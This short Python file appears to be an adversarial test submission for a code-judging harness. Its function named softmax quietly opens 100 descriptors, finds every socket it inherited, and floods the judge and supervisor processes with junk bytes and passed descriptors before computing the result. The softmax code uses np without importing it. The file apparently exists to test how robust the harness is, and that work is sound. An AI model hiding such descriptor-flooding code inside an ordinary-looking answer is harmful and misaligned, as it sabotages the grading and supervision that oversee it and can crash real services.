# /// attack
# does = "sends descriptors to the judge and the supervisor by every socket that it has, and answers rightly if it can"
# own = { softmax = ["protocol", "crashed"] }
# ///
"""Descriptors that nobody takes fill the other's table; one of them may be a process that is not what it seems. They
are dropped, and what comes with them is no answer."""

import contextlib
import os
import socket
import stat


def softmax(logits):
    kept = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
    for descriptor in range(3, 200):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                socket.send_fds(socket.socket(fileno=os.dup(descriptor)), [b"\xff" * 64], kept)
    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True)
